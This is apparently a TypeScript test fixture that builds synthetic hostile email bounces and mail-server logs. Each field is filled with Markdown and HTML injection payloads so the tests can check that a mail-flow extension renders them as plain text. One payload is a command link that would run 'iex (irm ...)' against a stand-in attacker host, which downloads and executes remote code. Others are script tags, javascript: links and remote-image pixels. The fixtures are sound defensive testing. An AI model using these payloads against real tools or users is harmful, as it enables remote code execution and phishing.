// Synthetic hostile documents for the Markdown tests: every header, DSN field and log field an
// attacker writes holds Markdown, HTML and link syntax that would become live if copied raw into a
// hover or a preview. Hand-written for these tests; no real message or log.

/** A link to our own command with arguments the attacker chose: what the Received hover once rendered live. */
export const COMMAND_PAYLOAD = '<command:mailflowLens.openPowerShell?%5B%7B%22text%22%3A%22iex%20%28irm%20%27http%3A%2F%2Fattacker.example%2Fx%27%29%22%7D%5D>';

/** One piece of each kind of syntax that must stay text. */
export const PAYLOADS: readonly string[] = [
  '`', '``', 'a```b', '\\`',
  '[Fix this bounce](command:mailflowLens.openPowerShell?%5B%7B%22text%22%3A%22iex%22%7D%5D)',
  COMMAND_PAYLOAD,
  '<img src=http://attacker.example/pixel.png>',
  '<script>alert(1)</script>',
  '<iframe src=//attacker.example/frame></iframe>',
  '<a href="javascript:alert(1)">open</a>',
  '![logo](http://attacker.example/logo.png)',
  '](http://attacker.example/',
  '**Your mailbox is full: sign in again**',
  '<http://attacker.example/auto>',
  'http://attacker.example/bare www.attacker.example postmaster@attacker.example',
  '[ref]', '[ref]: http://attacker.example/ref',
  '&lt;img src=x&gt;', '&#60;script&#62;',
  '<!-- hidden -->', '<details open>', '<span style="color:red">',
  '| a | b |', '$(alert)', '~~struck~~', '_under_', '# heading', '> quote', '---', '1. list',
  'line\u2028separator', 'form\ffeed', 'tab\there', 'nel\u0085here', 'del\u007fhere',
];

/** Every payload in one value, separated by spaces. */
export const ALL_PAYLOADS = PAYLOADS.join(' ');

/** `text` repeated to exactly `length` characters. */
export function repeatTo(text: string, length: number): string {
  return text.repeat(Math.ceil(length / text.length)).slice(0, length);
}

/** A 10,000-character value made of the payloads. */
export const LONG_PAYLOAD = repeatTo(`${ALL_PAYLOADS} `, 10_000);

/**
 * Received header words: the parser takes the word after from/by/with/id (no space, semicolon,
 * parenthesis or bracket in it), so each word carries syntax that fits in one.
 */
export const RECEIVED_WORDS = {
  from: `mx\`${COMMAND_PAYLOAD}\`x`,
  by: '``<img/src=http://attacker.example/by.png>|x|``',
  with: '**ESMTP**<script>alert`1`</script>x',
  id: '`x`http://attacker.example/id<b>x',
} as const;

/** Header lines of a hostile bounce; folded lines carry block syntax at the start of a line. */
function hostileHeaders(payload: string): string[] {
  return [
    `Return-Path: <${payload}>`,
    `Received: from ${RECEIVED_WORDS.from} (helo [192.0.2.7]) by ${RECEIVED_WORDS.by} with ${RECEIVED_WORDS.with} id ${RECEIVED_WORDS.id}; Mon, 23 Nov 2026 09:14:05 +0000`,
    `Received: from [<img/src=x>] (unknown [198.51.100.2]) by \`a\`b\`\`c with <script> id ${'`'.repeat(12)};`,
    `\t# Heading injection ${payload}`,
    '\t---',
    '\t> quote',
    '\t    indented code',
    '\tMon, 23 Nov 2026 09:14:00 +0000',
    `Authentication-Results: mx.example; spf=fail smtp.mailfrom=\`x\`<img/src=x>; dkim=fail header.d=[x](command:x); dmarc=fail header.from=${payload}`,
    `Received-SPF: fail (${payload}) client-ip=192.0.2.7;`,
    `DKIM-Signature: v=1; a=rsa-sha256; d=<img/src=x>; s=\`sel\`; b=${payload}`,
    `ARC-Seal: i=1; cv=<script>; ${payload}`,
    'X-Forefront-Antispam-Report: CIP:<img/src=x>;CTRY:`x`;LANG:[x](command:x);SCL:5;SRV:<b>;IPV:NLI;SFV:SPM;H:<script>;PTR:www.attacker.example;CAT:SPM;SFS:(**bold**);SFTY:`',
    `X-Microsoft-Antispam: BCL:8;${payload}`,
    `X-MS-Exchange-Organization-SCL: 5 ${payload}`,
    `X-MS-Exchange-Organization-AuthAs: \`Anonymous\`${payload}`,
    `Auto-Submitted: auto-replied ${payload}`,
    `From: ${payload} <postmaster@attacker.example>`,
    'To: <alex@contoso.example>',
    `Subject: Undeliverable: ${payload}`,
    'Date: Mon, 23 Nov 2026 09:13:50 +0000',
    `Message-ID: <${RECEIVED_WORDS.id}@attacker.example>`,
    'MIME-Version: 1.0',
  ];
}

/** A bounce (multipart/report) whose every header and DSN field holds `payload`, one field `long`. */
export function hostileBounce(payload = ALL_PAYLOADS, long = LONG_PAYLOAD): string {
  return [
    ...hostileHeaders(payload),
    'Content-Type: multipart/report; report-type=delivery-status; boundary="b"',
    '',
    '--b',
    'Content-Type: text/plain',
    '',
    `${payload} bob@fabrikam.example: 550 5.1.1 User unknown ${payload}`,
    `Remote Server returned '550 5.7.1 \`${payload}\`'`,
    '--b',
    'Content-Type: message/delivery-status',
    '',
    `Reporting-MTA: dns; ${payload}`,
    `Received-From-MTA: dns; ${payload}`,
    `Arrival-Date: ${payload}`,
    '',
    'Final-Recipient: rfc822; bob@fabrikam.example',
    `Original-Recipient: rfc822; ${payload}`,
    'Action: failed',
    'Status: 5.1.1',
    `Remote-MTA: dns; ${payload}`,
    `Diagnostic-Code: smtp; 550 5.1.1 <bob@fabrikam.example> ${payload}`,
    `Last-Attempt-Date: ${payload}`,
    '',
    `Final-Recipient: rfc822; \`${payload}\`@fabrikam.example`,
    'Action: delayed',
    'Status: 4.4.7',
    `Reporting-MTA: dns; ${long}`,
    `Diagnostic-Code: smtp; 451 4.4.7 ${long}`,
    `Will-Retry-Until: ${payload}`,
    '',
    'Final-Recipient: rfc822; carol@northwind.example',
    `Action: ${payload}`,
    `Status: 5.7.1 ${payload}`,
    `Diagnostic-Code: x-unknown; ${payload}`,
    '',
    '--b',
    'Content-Type: text/rfc822-headers',
    '',
    `Received: from ${RECEIVED_WORDS.from} by ${RECEIVED_WORDS.by} with ${RECEIVED_WORDS.with} id ${RECEIVED_WORDS.id}; Mon, 23 Nov 2026 09:13:55 +0000`,
    `From: ${payload} <alex@contoso.example>`,
    `To: ${payload}`,
    `Subject: ${long}`,
    'Date: Mon, 23 Nov 2026 09:13:50 +0000',
    `Message-ID: <q4\`x\`@contoso.example>`,
    '',
    '--b--',
    '',
  ].join('\n');
}

/** A CSV field: quoted, its quotes doubled. */
const csv = (value: string): string => `"${value.replace(/"/g, '""')}"`;

const TRACKING_FIELDS = 'date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,message-info,directionality,tenant-id,original-client-ip,original-server-ip,custom-data';

/** A message tracking log whose fields hold `payload`; known event IDs and codes sit next to it. */
export function hostileTrackingLog(payload = ALL_PAYLOADS, long = LONG_PAYLOAD): string {
  const row = (source: string, event: string, recipients: string, status: string, subject: string, custom: string): string => [
    '2026-11-23T09:14:02.120Z', '10.0.0.21', csv(payload), '10.0.0.11', 'EX02', csv(payload), csv(payload), source, event, '86157228441601',
    csv(`<${payload}@contoso.example>`), '3f2a9c1e-5b7d-4e21-08de-2b1c4a7f3e10', csv(recipients), csv(status), '48213', '2', csv(payload), csv(payload),
    csv(subject), csv(payload), 'alex@contoso.example', csv(payload), 'Originating', '', '10.0.0.21', '10.0.0.11', csv(custom),
  ].join(',');
  return [
    '#Software: Microsoft Exchange Server',
    `#Version: 15.02.1544.004 ${payload}`,
    '#Log-type: Message Tracking Log',
    `#Date: ${payload}`,
    `#Fields: ${TRACKING_FIELDS}`,
    row('ROUTING', 'FAIL', `bob@fabrikam.example;${payload}`, `550 5.1.1 RESOLVER.ADR.RecipNotFound; ${payload};250 2.1.5 ${payload}`, payload, `S:${payload}=${payload};S:\`k\`=<img/src=x>`),
    row(csv(payload), csv(`<script>${payload}`), `carol@contoso.example`, `451 4.4.316 ${long}`, long, `${payload}`),
    row('SMTP', 'DEFER', `ops@slow.example`, `451 4.4.316 [${payload}]`, payload, `S:DeliveryPriority=${payload}`),
    '',
  ].join('\n');
}

/** An extended message trace report (synthetic) whose values, Recipient_status entries and custom_data groups hold `payload`. */
export function hostileMessageTrace(payload = ALL_PAYLOADS, long = LONG_PAYLOAD): string {
  const header = 'date_time_utc,event_id,source,message_id,network_message_id,recipient_address,Recipient_status,message_subject,sender_address,directionality,connector_id,custom_data';
  const row = (event: string, status: string, custom: string): string => [
    '2026-11-20T10:00:00Z', event, csv(payload), csv(`<${payload}@contoso.example>`), '0f1e2d3c4b5a69788796a5b4c3d2e1f0', csv(`bob@fabrikam.example;${payload}`),
    csv(status), csv(payload), csv(payload), csv(payload), csv(payload), csv(custom),
  ].join(',');
  return [
    header,
    row('FAIL', `bob@fabrikam.example##Receive, Fail;${payload}##${payload}, Quarantined`, `S:SFA=SUM|SFV=${payload}|${payload}=${payload};S:AMA=SUM|action=${payload}|name=${payload}`),
    row(csv(`<script>${payload}`), `${payload}##Receive, 550 5.1.1 ${payload}`, `S:TRA=ETR|ruleId=${payload}|mode=${long}`),
    row('DEFER', `ops@slow.example##Receive, Defer`, `S:${payload}=${payload}`),
    '',
  ].join('\n');
}

/** A Postfix and an Exim trail whose addresses, relays, replies, ids and message-ids hold `payload`. */
export function hostileMailLog(payload = ALL_PAYLOADS, long = LONG_PAYLOAD): string {
  const head = (program: string): string => `Nov 23 09:14:02 mx1 postfix/${program}[4242]: 4B7C21A3F9: `;
  return [
    `${head('smtpd')}client=${payload}[203.0.113.9]`,
    `${head('cleanup')}message-id=<${payload}@contoso.example>`,
    `${head('qmgr')}from=<${payload}@contoso.example>, size=2048, nrcpt=2 (queue active)`,
    `${head('smtp')}to=<bob@fabrikam.example>, orig_to=<${payload}>, relay=${payload}[198.51.100.7]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=5.1.1, status=bounced (host ${payload} said: 550 5.1.1 ${payload} (in reply to RCPT TO command))`,
    `${head('smtp')}to=<ops@slow.example>, relay=none, delay=300, delays=0.1/0/300/0, dsn=4.4.1, status=deferred (connect to ${long}: Connection timed out)`,
    `${head('bounce')}sender non-delivery notification: 5D8E32B4A0`,
    `Nov 23 09:14:03 mx1 postfix/smtpd[4243]: NOQUEUE: reject: RCPT from unknown[192.0.2.77]: 554 5.7.1 Service unavailable; Client host [192.0.2.77] blocked using ${payload}; from=<${payload}> to=<sales@example.com> proto=ESMTP helo=<${payload}>`,
    `Nov 23 09:14:04 mx1 postfix/smtpd[4243]: warning: ${payload}`,
    `2026-11-23 09:14:05 1jmFYj-00039V-QX <= ${payload}@contoso.example H=${payload} [203.0.113.9] P=esmtps S=2048 id=${payload}`,
    `2026-11-23 09:14:06 1jmFYj-00039V-QX ** ${payload}@fabrikam.example R=dnslookup T=remote_smtp H=${payload} [198.51.100.7]: SMTP error from remote mail server after RCPT TO:<${payload}>: 550 5.1.1 ${payload}`,
    '2026-11-23 09:14:06 1jmFYj-00039V-QX Completed',
    `${head('qmgr')}removed`,
    '',
  ].join('\n');
}

/** An SMTP receive protocol log whose data, context and event fields hold `payload`. */
export function hostileProtocolLog(payload = ALL_PAYLOADS): string {
  const row = (sequence: number, event: string, data: string): string =>
    ['2026-11-23T10:00:00.101Z', csv(`EX01\\${payload}`), '08DE2B1C4A7F5001', String(sequence), '10.0.0.5:25', '203.0.113.9:51234', event, csv(data), csv(payload)].join(',');
  return [
    '#Software: Microsoft Exchange Server',
    '#Version: 15.02.1544.004',
    '#Log-type: SMTP Receive Protocol Log',
    `#Date: ${payload}`,
    '#Fields: date-time,connector-id,session-id,sequence-number,local-endpoint,remote-endpoint,event,data,context',
    row(0, '+', payload),
    row(1, '<', `EHLO ${payload}`),
    row(2, '>', `550 5.7.1 ${payload}`),
    row(3, csv(payload), payload),
    row(4, '**', `<img src=x> 250 2.1.5 ${payload}`),
    '',
  ].join('\n');
}

/** Plain text (a pasted NDR, a Postfix log) with codes right next to the payloads. */
export function hostilePlainText(payload = ALL_PAYLOADS): string {
  return [
    `${payload} 550 5.1.1 ${payload}`,
    `\`550 5.1.1\`${payload}`,
    `<img src=x>550 5.7.1 RESOLVER.RST.AuthRequired<script>`,
    `postfix/smtp[1]: A1: to=<bob@fabrikam.example>, relay=${payload}, dsn=5.1.1, status=bounced (host said: 550 5.1.1 ${payload})`,
    `[Fix](command:mailflowLens.openPowerShell?%5B%5D) 554 5.7.1 ${payload} QUEUE.Expired ${payload}`,
    `4.4.7 ${repeatTo(payload, 3000)} 5.2.2 ${payload}`,
  ].join('\n');
}
